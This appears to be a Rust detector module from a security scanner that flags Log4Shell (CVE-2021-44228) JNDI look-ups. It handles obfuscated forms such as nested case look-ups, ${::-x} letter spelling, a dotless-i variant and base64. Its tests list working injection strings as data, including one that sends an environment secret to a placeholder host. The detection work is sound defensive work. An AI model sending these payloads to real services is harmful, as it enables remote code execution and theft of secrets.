//! Look-ups that a logging library would follow to a directory (CVE-2021-44228).
//!
//! # What this does not protect from
//!
//! A look-up that only reads a variable of the environment is not reported.

use super::{CodeMatcher, Match};
use crate::lexer::{Cursor, Lookup, resolve_lookups};
use crate::rule::Confidence;

/// A look-up that resolves to `jndi:` and an address.
pub(super) const LOOKUP: CodeMatcher = CodeMatcher { name: "jndi_lookup", find: lookup };

fn lookup(value: &[u8]) -> Option<Match> {
    let mut best: Option<Match> = None;
    resolve_lookups(value, |at, found| {
        let Lookup::Text(text) = found else {
            // Nobody means such a nest, whatever lies in it.
            best =
                Some(Match::new(Confidence::Certain, at..value.len(), "look-ups nested deeper than any honest ones"));
            return true;
        };
        let confidence = match target(text) {
            Some(b"java") => Confidence::Likely,
            Some(_) => Confidence::Certain,
            // `${::-x}` spells a letter so that nobody sees it.
            None if text.starts_with(b"::-") && text.len() <= 8 => Confidence::Likely,
            None => return false,
        };
        if best.as_ref().is_none_or(|best| best.confidence < confidence) {
            best = Some(Match::new(confidence, at..value.len(), "a look-up that resolves to JNDI"));
        }
        confidence == Confidence::Certain
    });
    best
}

/// The scheme of the address that `jndi:` names.
fn target(text: &[u8]) -> Option<&[u8]> {
    let mut cursor = Cursor::new(text, 0);
    cursor.space();
    // The capital of a dotless i is I.
    let named = cursor.eat(b"jndi:") || cursor.eat("jndı:".as_bytes());
    if !named {
        return None;
    }
    cursor.take_while(|byte| byte == b' ' || byte == b'/');
    let scheme = cursor.take_while(|byte| byte.is_ascii_alphanumeric() || b"+-.".contains(&byte));
    (!scheme.is_empty() && cursor.eat(b":")).then_some(scheme)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_look_up_is_followed_through_its_disguises() {
        for (value, expected) in [
            ("${jndi:ldap://h:1389/a}", "certain"),
            ("${JNDI:rmi://h/a", "certain"),
            ("a ${${lower:j}ndi:${lower:l}dap://h/a} b", "certain"),
            ("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://h/a}", "certain"),
            ("${${env:X:-j}ndi${env:X:-:}dns${env:X:-:}//h}", "certain"),
            ("${jnd${upper:ı}:ldap://h/a}", "certain"),
            ("${jndi:ldap://${env:SECRET}.h/a}", "certain"),
            ("${${base64:am5kaTpsZGFwOi8vaC9h}}", "certain"),
            ("${jndi:java:comp/env/x}", "likely"),
            ("${${::-a}bc}", "likely"),
            ("${jndi}", ""),
            ("the ${jndi:...} look-up", ""),
            ("${name:-jndi} ${user.home} ${i + 1}", ""),
            ("jndi:ldap://h/a", ""),
            ("${env:HOME}", ""),
        ] {
            let level = lookup(value.as_bytes()).map_or("", |found| found.confidence.as_str());
            assert_eq!(level, expected, "{value}");
        }
    }

    #[test]
    fn a_nest_is_followed_or_found_by_its_depth() {
        for (opener, depth, expected) in [
            ("${a:-", 8, "certain"),
            ("${a:-", 31, "certain"),
            ("${a:-", 32, "certain"),
            ("${a:-", 35, "certain"),
            ("${a:-", 5_000, "certain"),
            ("${lower:", 35, "certain"),
        ] {
            let value = opener.repeat(depth) + "${jndi:ldap://e/a}" + &"}".repeat(depth);
            let level = lookup(value.as_bytes()).map_or("", |found| found.confidence.as_str());
            assert_eq!(level, expected, "{opener} {depth}");
        }
        // Templates that nobody closes, and honest ones in a row or in each other.
        for value in ["${a ".repeat(100), "${a} ".repeat(100), "${a:-".repeat(12) + "x" + &"}".repeat(12)] {
            assert_eq!(lookup(value.as_bytes()), None, "{value}");
        }
    }
}
